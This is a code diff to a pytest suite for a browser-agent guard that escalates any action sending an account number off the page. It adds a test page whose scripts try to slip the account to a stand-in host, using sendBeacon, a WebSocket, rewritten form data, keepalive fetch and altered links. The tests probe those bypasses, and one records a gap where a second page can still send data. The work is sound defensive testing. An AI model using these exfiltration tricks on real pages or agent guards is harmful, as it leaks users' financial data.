@@ -19,6 +19,7 @@ from wm_pipeline.domain.errors import NotDoneError, WorldError
 from wm_pipeline.domain.relations import relate
 from wm_pipeline.domain.state import State
 from wm_pipeline.domain.vocabulary import Verdict
+from wm_pipeline.environments.browser import any_page
 from wm_pipeline.environments.browser.any_page import Session, observe
 from wm_pipeline.environments.browser.chromium import find_chromium
 from wm_pipeline.guard.page import ActionRefusedError, GuardedPage, Judged
@@ -37,6 +38,25 @@ PAGE = """<!doctype html><title>Orders</title><h1>New order</h1>
 <form action="/files" method="post" enctype="multipart/form-data">
   <input type="file" name="file" aria-label="File"></form>
 <a href="/other">Other</a> <a href="http://elsewhere.localhost:PORT/take?iban=DE00%205001">Confirm</a>
+"""
+TRICKS = """<!doctype html><title>Tricks</title><p>The account is DE00 5001.</p>
+<form id="wire" action="/wire" method="post"><input name="amount" value="5"><button>Pay</button></form>
+<form id="note" action="/note" method="post"><input name="text" value="5"><button>Keep</button></form>
+<form id="spa" action="/spa" method="post"><input name="x" value="5"><button>Save</button></form>
+<a href="http://elsewhere.localhost:PORT/docs" id="docs">Docs</a>
+<button id="plain" onclick="navigator.sendBeacon('http://elsewhere.localhost:PORT/take', 'DE00 5001')">Beacon</button>
+<button id="socket" onclick="new WebSocket('ws://elsewhere.localhost:PORT/socket')">Socket</button>
+<button id="endless" onclick="for (;;);">Endless</button>
+<input id="held" aria-label="Held" value="one"><iframe src="/other" width="900" height="400"></iframe>
+<script>
+wire.onsubmit = () => { fetch("/wire", {method: "POST", body: "amount=5&to=DE00", keepalive: true}); };
+note.addEventListener("formdata", (event) => event.formData.set("text", "DE00 5001"));
+spa.onsubmit = (event) => {
+  event.preventDefault();
+  fetch("/spa", {method: "POST", body: new URLSearchParams(new FormData(spa))});
+};
+docs.onclick = () => { docs.href += "?account=DE00"; };
+</script>
 """
 ATTACHED = "document.querySelector('input[type=file]').files[0]?.name"
 
@@ -62,7 +82,8 @@ class Orders:
                 self.send_response(200)
                 self.send_header("content-type", "text/html")
                 self.end_headers()
-                self.wfile.write(PAGE.replace("PORT", self.headers["host"].partition(":")[2]).encode())
+                page = TRICKS if self.path == "/tricks" else PAGE
+                self.wfile.write(page.replace("PORT", self.headers["host"].partition(":")[2]).encode())
 
             def log_message(self, *_: object) -> None:
                 pass
@@ -84,8 +105,9 @@ class AccountGuard:
     """Leaves to a person whatever sends the account away."""
 
     def decide(self, state: State, action: Action) -> Decision:
-        sends = relate(state, action).sends
-        verdict = Verdict.ESCALATE if any("DE00" in sent.value for sent in sends) else Verdict.EXECUTE
+        relations = relate(state, action)
+        sent = [*(one.value for one in relations.sends), relations.destination or ""]
+        verdict = Verdict.ESCALATE if any("DE00" in one for one in sent) else Verdict.EXECUTE
         executed = action if verdict is Verdict.EXECUTE else None
         return Decision(verdict, executed, "the account", None, 1.0, hold=why_effect_unknown(state, action))
 
@@ -237,6 +259,175 @@ def test_an_element_that_is_not_one_is_told_as_by_the_page_itself(play: Play, or
     (told,) = play(orders, [lambda page: page.click("button")])
 
     assert "strict mode violation" in str(told)
+
+
+def open_tricks(page: GuardedPage) -> Any:
+    return page.goto(page.url + "tricks")
+
+
+@both
+@pytest.mark.parametrize(
+    ("target", "sent"),
+    [
+        ("#wire button", [("/wire", "amount=5")]),
+        ("#note button", []),
+        ("#docs", []),
+        ("#plain", []),
+    ],
+    ids=["a script to the form's own address", "formdata", "a longer address", "a body of one value"],
+)
+def test_nothing_else_leaves_under_the_address_that_was_judged(
+    play: Play, orders: Orders, target: str, sent: list[tuple[str, str]]
+) -> None:
+    _, refused = play(orders, [open_tricks, lambda page: page.click(target)])
+
+    assert isinstance(refused, ActionRefusedError)
+    assert orders.received == sent
+
+
+@both
+def test_a_form_that_a_script_sends_as_it_stands_is_sent(play: Play, orders: Orders) -> None:
+    assert play(orders, [open_tricks, lambda page: page.click("#spa button")])[1] is None
+    assert orders.received == [("/spa", "x=5")]
+
+
+@both
+def test_what_is_typed_comes_after_what_is_there(play: Play, orders: Orders) -> None:
+    answers = play(
+        orders,
+        [open_tricks, lambda page: page.type("#held", " two"), lambda page: page.input_value("#held")],
+    )
+
+    assert answers[1:] == [None, "one two"]
+
+
+@both
+def test_what_stands_in_a_frame_is_judged(play: Play, orders: Orders) -> None:
+    frames: list[Callable[[GuardedPage], Any]] = [
+        open_tricks,
+        lambda page: page.frame_locator("iframe").get_by_label("Name").fill("Dana"),
+        lambda page: page.frame_locator("iframe").locator("#ping").click(),
+    ]
+
+    assert [type(one) for one in play(orders, frames)[1:]] == [type(None), ActionRefusedError]
+    assert orders.received == []
+
+
+@both
+def test_what_could_not_be_held_back_is_told(play: Play, orders: Orders) -> None:
+    def told(page: GuardedPage) -> Any:
+        unheld.extend(page.unheld)
+        return page.title()
+
+    unheld: list[str] = []
+    play(orders, [open_tricks, lambda page: page.click("#socket"), told])
+
+    assert [one.partition(" ws:")[0] for one in unheld] == ["socket to"]
+
+
+async def async_pages(orders: Orders, work: Callable[[Any], Any]) -> Any:
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=str(find_chromium(None).path), args=["--no-sandbox"])
+        page = await (await browser.new_context()).new_page()
+        await page.goto(orders.url)
+        answer = await work(page)
+        await browser.close()
+        return answer
+
+
+def test_handlers_of_the_pages_owner_run_and_let_nothing_past_the_guard(orders: Orders) -> None:
+    async def work(page: Any) -> tuple[int, bool]:
+        asked: list[str] = []
+
+        async def go_on(route: Any) -> None:
+            asked.append(route.request.url)
+            await route.continue_()
+
+        await page.route("**/*", go_on)
+        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
+        with pytest.raises(ActionRefusedError):
+            await guarded.click("#ping")
+        await guarded.goto(orders.url + "other")
+        return len(asked), page.url.endswith("/other")
+
+    assert asyncio.run(async_pages(orders, work)) == (1, True)
+    assert orders.received == []
+
+
+def test_a_judge_is_waited_for_however_long_it_takes(orders: Orders) -> None:
+    async def nobody(judged: Judged) -> bool:
+        await asyncio.sleep(4)
+        return False
+
+    async def work(page: Any) -> None:
+        with pytest.raises(ActionRefusedError):
+            await GuardedPage(page, AccountGuard(), goal="Order for Dana.", on_escalate=nobody).click("#ping")
+
+    asyncio.run(async_pages(orders, work))
+    assert orders.received == []
+
+
+def test_another_page_of_the_same_browser_sends_what_it_likes_meanwhile(orders: Orders) -> None:
+    async def work(page: Any) -> str:
+        other = await page.context.new_page()
+        await other.goto(orders.url)
+        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.", on_escalate=lambda judged: sent(other))
+        with pytest.raises(ActionRefusedError):
+            await guarded.click("#ping")
+        return str(await other.evaluate("window.sent"))
+
+    async def sent(other: Any) -> bool:
+        await other.evaluate("fetch('/own', {method: 'POST', body: 'DE00'}).then(() => { window.sent = 'yes'; })")
+        return False
+
+    assert asyncio.run(async_pages(orders, work)) == "yes"
+    assert orders.received == [("/own", "DE00")]
+
+
+def test_a_page_that_never_answers_ends_the_act(orders: Orders, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(any_page, "ACT_LIMIT_S", 1.0)
+
+    async def work(page: Any) -> None:
+        await page.goto(orders.url + "tricks")
+        with pytest.raises(WorldError, match="did not answer an action within 1 s"):
+            await GuardedPage(page, AccountGuard(), goal="Order for Dana.").click("#endless")
+
+    asyncio.run(async_pages(orders, work))
+
+
+def test_a_window_beside_it_is_under_the_same_guard(orders: Orders) -> None:
+    async def work(page: Any) -> int:
+        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
+        other = await page.context.new_page()
+        await other.goto(orders.url)
+        with pytest.raises(ActionRefusedError):
+            await guarded.beside(other).click("#ping")
+        return len(guarded.judged)
+
+    assert asyncio.run(async_pages(orders, work)) == 2
+    assert orders.received == []
+
+
+@pytest.mark.parametrize(
+    "tried",
+    [
+        lambda page: page.locator("#ping").click(trial=True),
+        lambda page: page.click("#ping", position={"x": 1, "y": 1}),
+        lambda page: page.main_frame,
+        lambda page: page.wait_for_selector("#ping"),
+        lambda page: page.expect_popup(),
+    ],
+    ids=["trial", "position", "frame", "handle", "popup"],
+)
+def test_what_would_act_in_another_way_or_beside_the_guard_is_refused(
+    tried: Callable[[GuardedPage], Any], orders: Orders
+) -> None:
+    def told(page: GuardedPage) -> str:
+        with pytest.raises(AttributeError, match="no guard judges"):
+            tried(page)
+        return str(page.title())
+
+    assert in_sync(orders, [told]) == ["Orders"]
 
 
 def test_what_no_guard_judges_is_refused_by_name(orders: Orders) -> None:
